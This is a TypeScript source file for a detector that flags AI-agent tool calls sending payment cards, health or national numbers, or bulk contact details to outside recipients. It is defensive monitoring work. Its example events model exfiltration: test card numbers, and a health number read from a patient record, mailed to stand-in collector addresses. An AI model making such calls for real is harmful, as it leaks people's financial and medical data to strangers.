/** Finds personal data in calls that send something out. */
import type { Severity } from '../../core/alert.ts';
import type { ProvenanceEvent } from '../../core/event.ts';
import { keep } from '../bounded.ts';
import { parameterRole } from '../catalog/destinations.ts';
import { type CallText, callText } from '../content/call_leaves.ts';
import { domainOf, isWithin, namedPlaces } from '../content/named_places.ts';
import { findPersonalNumbers, type PersonalGroup } from '../content/personal_data.ts';
import { SIGHT } from '../content/sights.ts';
import { type DetectorContext, defineDetector, type Match, type MatchStep } from '../detector.ts';
import { call, prompt, result } from '../example_events.ts';
import { digestOf } from '../finding_id.ts';
import { type EventRef, refOf } from '../lineage/edge.ts';
import { extractValues } from '../lineage/extract_values.ts';
import { listing, serverName, shorten } from '../wording.ts';

type Kind = PersonalGroup | 'e-mail address' | 'phone number';

interface State {
  /** Domains that belong to the session: the user's own, and those that prompts name. */
  domains: string[];
  /** The last call that read private data. */
  sensitive?: EventRef;
}

interface Detail {
  server: string;
  tool: string;
  counts: { kind: Kind; count: number }[];
  /** Domains of recipients that the session does not know. */
  outside: string[];
  bulk: boolean;
  sensitive: boolean;
}

const DOMAINS_MAX = 64;
/** Numbers, or addresses, in one call from which on it is no single case. */
const NUMBERS_BULK = 5;
const ADDRESSES_BULK = 25;
/** Fewer addresses are ordinary mail. */
const ADDRESSES_MIN = 10;
const PLURAL: Record<Kind, string> = {
  'payment card': 'payment cards',
  'bank account': 'bank accounts',
  'national number': 'national numbers',
  'health number': 'health numbers',
  'e-mail address': 'e-mail addresses',
  'phone number': 'phone numbers',
};

export default defineDetector<State, Detail>({
  metadata: {
    id: 'pii_disclosed',
    version: 1,
    title: 'Personal data sent out',
    description: {
      detects:
        'A call that sends data out with payment cards, bank accounts, national or health numbers whose check digits hold, ' +
        `or with at least ${ADDRESSES_MIN} e-mail addresses or phone numbers in its text. Medium when it is many at once, or ` +
        'when private data was read before and a recipient lies outside of the domains that the session knows.',
      misses:
        'Names, postal addresses, dates of birth and diagnoses; numbers without check digits that no word introduces; data ' +
        'that is encoded or split over several calls. What a parameter names as the destination is no disclosure.',
    },
    severity: 'medium',
    status: 'experimental',
    tags: ['AML.T0086', 'AML.T0057', 'AML.T0085.001', 'ASI02', 'LLM02', 'MCP10'],
    references: [
      'https://atlas.mitre.org/techniques/AML.T0086',
      'https://genai.owasp.org/llmrisk/llm022025-sensitive-information-disclosure/',
      'https://eur-lex.europa.eu/eli/reg/2016/679/oj',
    ],
    false_positives: [
      'A booking or payment that needs the card of the user: told as info or low.',
      'Exports between systems of the same organisation under another domain.',
      'Test data with valid check digits.',
    ],
    runbook: [
      'Read what was sent and to whom: was that the task?',
      'Ask who is responsible for the data whether this recipient may have it.',
      'If not: have it deleted there, suspend the session, and start the procedure for a breach of personal data.',
    ],
  },
  watches: ['prompt', 'tool.call'],
  group_by: 'session',
  initial: () => ({ domains: [] }),

  step(state, event, context) {
    if (event.type === 'prompt') {
      learnDomains(state, event);
      return [];
    }
    const matches = context.call?.egress === true ? callMatches(state, event, context) : [];
    if (readsPrivate(event, context)) state.sensitive = refOf(event);
    return matches;
  },

  explain({ steps, detail: { server, tool, counts, outside, bulk, sensitive } }) {
    const what = listing(
      counts.map(({ kind, count }) => `${count} ${count === 1 ? kind : PLURAL[kind]}`),
      6,
    );
    const whom = outside.length === 0 ? '' : ` Recipients outside of the session’s domains: ${listing(outside)}.`;
    const why = `${bulk ? ' That is more than a single case.' : ''}${sensitive ? ' The session had read private data before.' : ''}`;
    return {
      title: `${shorten(tool, 64)} sent out personal data: ${what}`,
      reason: `The parameters of ${shorten(tool, 64)} on ${serverName(server)}, which sends data out, hold ${what}.${whom}${why}`,
      evidence: steps,
    };
  },

  examples: [
    {
      name: 'A list of cards goes out in a message',
      fires: true,
      severity: 'medium',
      events: [
        prompt('Tidy up the refunds.'),
        call('mailer', 'send_email', {
          to: 'backup@collector.test',
          body: [
            '4111 1111 1111 1111',
            '5555 5555 5555 4444',
            '378282246310005',
            '6011111111111117',
            '30569309025904',
          ].join('\n'),
        }),
      ],
    },
    {
      name: 'After reading patient records one health number goes to a stranger',
      fires: true,
      severity: 'medium',
      events: [
        prompt('Check the appointments of today.'),
        call('clinic', 'get_patient_record', { id: 'P-7' }),
        result('clinic', 'get_patient_record', { name: 'Ann', nhs_number: '943 476 5919' }),
        call('mailer', 'send_email', { to: 'desk@collector.test', body: 'NHS 943 476 5919' }),
      ],
    },
    {
      name: 'A tax code goes to a partner',
      fires: true,
      severity: 'low',
      events: [
        prompt('Register Mario.'),
        call('mailer', 'send_email', { to: 'office@partner.test', body: 'Codice fiscale RSSMRA85T10A562S' }),
      ],
    },
    {
      name: 'A card goes to the own domain',
      fires: true,
      severity: 'info',
      events: [call('mailer', 'send_email', { to: 'pay@example.com', body: 'Card 4111 1111 1111 1111' })],
    },
    {
      name: 'Near miss: a payment to the account that it names',
      fires: false,
      events: [
        prompt('Pay the invoice.'),
        call('ledger', 'make_payment', { beneficiary_iban: 'DE89370400440532013000', amount: 420 }),
      ],
    },
    {
      name: 'Near miss: order numbers, dates and digits whose check does not hold',
      fires: false,
      events: [
        call('mailer', 'send_email', {
          to: 'ben@customer.test',
          body: 'Order 4111 1111 1111 1112 of 2026-01-15, tracking 123456789012, item 12345678A, call 202-555-0143.',
        }),
      ],
    },
    {
      name: 'Near miss: a mail to many recipients',
      fires: false,
      events: [
        call('mailer', 'send_email', {
          to: Array.from({ length: 30 }, (_, at) => `guest${at}@customer.test`),
          body: 'The concert begins at eight.',
        }),
      ],
    },
    {
      name: 'Near miss: a card is looked up, nothing is sent',
      fires: false,
      events: [call('ledger', 'get_card_status', { card: '4111 1111 1111 1111' })],
    },
  ],
});

function callMatches(state: State, event: ProvenanceEvent, { call: profile }: DetectorContext): Match<Detail>[] {
  const text = callText(event);
  if (!text.digits && (text.sights & (SIGHT.at | SIGHT.random)) === 0) return [];
  const counts = countKinds(text);
  if (counts.size === 0) return [];
  const outside = recipientsOutside(state, event, text);
  const numbers = [...counts].reduce((sum, [kind, count]) => sum + (isAddress(kind) ? 0 : count), 0);
  const addresses = Math.max(counts.get('e-mail address') ?? 0, counts.get('phone number') ?? 0);
  const bulk = numbers >= NUMBERS_BULK || addresses >= ADDRESSES_BULK;
  const sensitive = state.sensitive !== undefined;
  const severity = severityOf(bulk, sensitive, outside);
  const steps: MatchStep[] = [{ event: refOf(event), role: 'This call sent the data out' }];
  if (state.sensitive !== undefined) steps.unshift({ event: state.sensitive, role: 'This call had read private data' });
  const server = event.server ?? '';
  const tool = event.tool ?? profile?.verb ?? 'a tool';
  const detail: Detail = {
    server,
    tool,
    counts: [...counts].map(([kind, count]) => ({ kind, count })),
    outside: outside.domains,
    bulk,
    sensitive,
  };
  return [
    {
      severity,
      steps,
      source: `${server}\u0000${tool}`,
      sink_digest: digestOf([severity, ...[...counts.keys()].sort(), ...outside.domains]),
      detail,
    },
  ];
}

function severityOf(bulk: boolean, sensitive: boolean, outside: { domains: string[]; inside: boolean }): Severity {
  // Whom it reaches is unknown where no recipient is named.
  if (bulk && !outside.inside) return 'medium';
  if (sensitive && outside.domains.length > 0) return 'medium';
  return bulk || outside.domains.length > 0 ? 'low' : 'info';
}

function isAddress(kind: Kind): boolean {
  return kind === 'e-mail address' || kind === 'phone number';
}

/** How much of each kind stands in the parameters that name no destination. */
function countKinds({ leaves }: CallText): Map<Kind, number> {
  const seen = new Map<Kind, Set<string>>();
  const add = (kind: Kind, value: string) => {
    const values = seen.get(kind) ?? new Set<string>();
    seen.set(kind, values.add(value));
  };
  for (const leaf of leaves) {
    if (leaf.text.length < 7 || parameterRole(leaf.name).destination) continue;
    if (/\d{2}/.test(leaf.text)) {
      for (const { group, value } of findPersonalNumbers(leaf.text, leaf.name)) add(group, value);
    }
    for (const { kind, value } of extractValues(leaf.text)) {
      if (kind === 'email') add('e-mail address', value);
      if (kind === 'phone') add('phone number', value);
    }
  }
  const counts = new Map<Kind, number>();
  for (const [kind, values] of seen) {
    if (!isAddress(kind) || values.size >= ADDRESSES_MIN) counts.set(kind, values.size);
  }
  return counts;
}

/** The domains that a call goes to and that are not the session's; `inside` when all of those named are. */
function recipientsOutside(state: State, event: ProvenanceEvent, { leaves }: CallText) {
  const own = domainOf(event.user_id ?? '');
  const domains = new Set<string>();
  let known = 0;
  for (const leaf of leaves) {
    const role = parameterRole(leaf.name);
    if (!role.destination) continue;
    for (const { kind, value } of extractValues(leaf.text, role)) {
      const domain = kind === 'email' ? domainOf(value) : kind === 'host' ? value : '';
      if (domain === '') continue;
      if (isWithin(domain, own) || state.domains.some((each) => isWithin(domain, each))) known++;
      else domains.add(domain);
    }
  }
  return { domains: [...domains], inside: domains.size === 0 && known > 0 };
}

function learnDomains(state: State, event: ProvenanceEvent): void {
  for (const domain of namedPlaces(event))
    if (!state.domains.includes(domain)) keep(state.domains, domain, DOMAINS_MAX);
}

function readsPrivate(event: ProvenanceEvent, { call: profile }: DetectorContext): boolean {
  if (profile?.capabilities.has('sensitive_read') || profile?.capabilities.has('secret_read')) return true;
  return (event.data_sources ?? []).some(
    ({ sensitivity }) => sensitivity === 'confidential' || sensitivity === 'secret',
  );
}
